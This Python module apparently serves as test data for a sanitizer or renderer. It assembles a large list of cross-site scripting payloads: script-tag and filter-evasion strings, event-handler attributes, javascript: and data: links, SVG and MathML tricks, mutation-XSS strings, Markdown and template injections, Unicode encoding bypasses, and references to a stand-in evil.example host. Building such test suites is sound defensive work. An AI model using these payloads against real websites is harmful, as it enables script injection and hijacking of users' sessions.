"""Texts that try to become markup or a program, written from the public classes of attack."""

_SCRIPT = "globalThis.pwned=1;alert(1)"

_TAGS = [
    f"<script>{_SCRIPT}</script>", f"<ScRiPt>{_SCRIPT}</ScRiPt>", f"<script\n>{_SCRIPT}</script\n>",
    f"<script/x>{_SCRIPT}</script>", f"<<script>{_SCRIPT}//<</script>", f"<script src=data:,{_SCRIPT}></script>",
    f"</p><script>{_SCRIPT}</script>", f"<scr<script>ipt>{_SCRIPT}</scr</script>ipt>", f"<script>{_SCRIPT}",
    f"<!--><script>{_SCRIPT}</script>-->", f"<![CDATA[<script>{_SCRIPT}</script>]]>", f"<?xml?><script>{_SCRIPT}</script>",
    f"<noscript><p title='</noscript><script>{_SCRIPT}</script>'>", f"<template><script>{_SCRIPT}</script></template>",
    f"<textarea><script>{_SCRIPT}</script></textarea>", f"<title><script>{_SCRIPT}</script></title>",
    f"<style><script>{_SCRIPT}</script></style>", f"<xmp><script>{_SCRIPT}</script></xmp>",
    f"<plaintext><script>{_SCRIPT}</script>", f"<listing><script>{_SCRIPT}</script></listing>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example)}</style>", "<dialog open>gotcha</dialog>", "<slot name=x></slot>",
    f"<x-element onclick={_SCRIPT}>x</x-element>", "<altcha-widget auto=onload></altcha-widget>",
]  # fmt: skip

_HANDLERS = [
    f"<{tag} {attributes}{handler}={_SCRIPT}>"
    for tag, attributes, handler in [
        ("img", "src=x ", "onerror"), ("img", "src=x:x ", "OnErRoR"), ("img/src=x/", "", "onerror"),
        ("image", "src=x ", "onerror"), ("video", "src=x ", "onerror"), ("audio", "src=x ", "onerror"),
        ("video", "poster=x ", "onloadstart"), ("source", "", "onerror"), ("body", "", "onload"),
        ("body", "", "onpageshow"), ("body", "", "onhashchange"), ("iframe", "", "onload"), ("embed", "", "onload"),
        ("object", "data=x ", "onerror"), ("input", "autofocus ", "onfocus"), ("select", "autofocus ", "onfocus"),
        ("textarea", "autofocus ", "onfocus"), ("button", "autofocus ", "onfocus"), ("details", "open ", "ontoggle"),
        ("marquee", "", "onstart"), ("div", "style=animation-name:appear ", "onanimationstart"),
        ("p", "style=transition:1s ", "ontransitionend"), ("a", "href=# ", "onmouseover"), ("b", "", "onpointerenter"),
        ("form", "", "onsubmit"), ("svg", "", "onload"), ("math", "", "onclick"), ("svg/", "", "onload"),
        ("style", "", "onload"), ("link", "rel=stylesheet href=x ", "onerror"), ("dialog", "open ", "oncancel"),
        ("div", "popover id=x ", "onbeforetoggle"), ("div", "contenteditable autofocus ", "onfocus"),
        ("keygen", "autofocus ", "onfocus"), ("isindex", "type=image src=x ", "onerror"),
    ]
]  # fmt: skip

_EMBEDDED = [
    f"<iframe src=javascript:{_SCRIPT}></iframe>", f"<iframe srcdoc='<script>{_SCRIPT}</script>'></iframe>",
    f"<iframe src='data:text/html,<script>{_SCRIPT}</script>'>", f"<object data='data:text/html,<script>{_SCRIPT}</script>'>",
    f"<embed src='data:image/svg+xml,<svg onload={_SCRIPT}>'>", f"<form action=javascript:{_SCRIPT}><button>x</button></form>",
    f"<button formaction=javascript:{_SCRIPT}>x</button>", f"<a href=javascript:{_SCRIPT}>x</a>",
    f"<svg><script>{_SCRIPT}</script></svg>", f"<svg><script href=data:,{_SCRIPT} />", f"<svg><a xlink:href=javascript:{_SCRIPT}>x</a></svg>",
    f"<svg><animate onbegin={_SCRIPT} attributeName=x dur=1s>", f"<svg><set attributeName=href to=javascript:{_SCRIPT}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_SCRIPT}>#x'/>", f"<svg><foreignObject><script>{_SCRIPT}</script></foreignObject>",
    f"<svg><style><img src=x onerror={_SCRIPT}></style>", f"<svg><desc><img src=x onerror={_SCRIPT}></desc>",
    f"<svg><title><img src=x onerror={_SCRIPT}></title>", f"<math><mtext><script>{_SCRIPT}</script></mtext></math>",
    f"<math href=javascript:{_SCRIPT}>x</math>", f"<math><maction actiontype=statusline xlink:href=javascript:{_SCRIPT}>x",
    f"<math><annotation-xml encoding=text/html><script>{_SCRIPT}</script>", f"<math><mi//xlink:href='data:x,<script>{_SCRIPT}</script>'>",
]  # fmt: skip

_MUTATION = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_SCRIPT}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_SCRIPT}>'>", f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_SCRIPT}>",
    f"<noscript><style></noscript><img src=x onerror={_SCRIPT}>", f"<listing>&lt;img onerror={_SCRIPT} src=x&gt;</listing>",
    f"<p style='content:`</p><img src=x onerror={_SCRIPT}>`'>", f"<a title='`<img src=x onerror={_SCRIPT}>'>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={_SCRIPT}>'>",
    f"<table><tr><td><svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror={_SCRIPT}&gt;",
]  # fmt: skip

_SCHEMES = [
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "\u0001javascript:{}", "javascript\u2028:{}",
    "javascript&colon;{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "javascript&#58;{}", "java&Tab;script:{}",
    "javascript://example.org/%0a{}", "data:text/html,<script>{}</script>", "data:image/svg+xml,<svg onload={}>",
    "vbscript:{}", "livescript:{}", "mocha:{}", "feed:javascript:{}", "view-source:javascript:{}", "blob:{}",
    "file:///{}", "about:blank#{}", "ws://evil.example/{}",
]  # fmt: skip
_SHAPES = ["[x]({})", "[x](<{}>)", "<{}>", "![x]({})", "[x][1]\n\n[1]: {}"]
_LINKS = [
    shape.format(scheme.format(_SCRIPT)) for number, scheme in enumerate(_SCHEMES)
    for shape in (_SHAPES[number % 5], _SHAPES[(number + 2) % 5])
]  # fmt: skip

_MARKDOWN = [
    f'[x](https://example.org "onmouseover={_SCRIPT}")', f"[x](https://example.org/'onclick='{_SCRIPT})",
    f'[x](https://example.org/"onclick="{_SCRIPT})', f'![x](https://example.org/" onerror="{_SCRIPT})',
    f"`<script>{_SCRIPT}</script>`", f"```html\n<script>{_SCRIPT}</script>\n```", f"```\"><script>{_SCRIPT}</script>\nx\n```",
    f"# <img src=x onerror={_SCRIPT}>", f"> <img src=x onerror={_SCRIPT}>", f"- <img src=x onerror={_SCRIPT}>",
    f"| <img src=x onerror={_SCRIPT}> |\n| --- |\n| x |", f"**<img src=x onerror={_SCRIPT}>**", f"~~<b onclick={_SCRIPT}>x</b>~~",
    f"- [ ] <img src=x onerror={_SCRIPT}>", f"[<img src=x onerror={_SCRIPT}>](https://example.org)",
    f"https://example.org/<script>{_SCRIPT}</script>", f"<https://example.org/><script>{_SCRIPT}</script>",
    f"[a]: javascript:{_SCRIPT}\n\n[a]", f"[x](\njavascript:{_SCRIPT})", f"[x](javascript:{_SCRIPT}//[y](https://a))",
]  # fmt: skip

_TEMPLATES = [
    "{{constructor.constructor('" + _SCRIPT + "')()}}", "${" + _SCRIPT + "}", "<%= " + _SCRIPT + " %>",
    "#{" + _SCRIPT + "}", "{% " + _SCRIPT + " %}", "@{" + _SCRIPT + "}", "[[${" + _SCRIPT + "}]]",
    "__proto__", "constructor", "toString", '{"__proto__":{"x":1}}', '{"dangerouslySetInnerHTML":{"__html":"<img>"}}',
]  # fmt: skip

_UNICODE = [
    f"\uff1cscript\uff1e{_SCRIPT}\uff1c/script\uff1e", f"\u02c2img src=x onerror={_SCRIPT}\u02c3", f"<\u0130mg src=x onerror={_SCRIPT}>",
    f"<img src=x onerror\u0000={_SCRIPT}>", f"<img\u000bsrc=x\u000conerror={_SCRIPT}>", f"<img src=x onerror=\u2028{_SCRIPT}>",
    f"\ufeff<script>{_SCRIPT}</script>", f"&lt;script&gt;{_SCRIPT}&lt;/script&gt;", f"&#60;script&#62;{_SCRIPT}&#60;/script&#62;",
    f"%3Cscript%3E{_SCRIPT}%3C/script%3E", f"\\u003cscript\\u003e{_SCRIPT}\\u003c/script\\u003e", f"+ADw-script+AD4-{_SCRIPT}+ADw-/script+AD4-",
    "\u202egnp.exe", "a\u0301" * 60, "\u200b\u200c\u200d\u2060", "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
]  # fmt: skip

TEXTS = [*_TAGS, *_HANDLERS, *_EMBEDDED, *_MUTATION, *_LINKS, *_MARKDOWN, *_TEMPLATES, *_UNICODE]
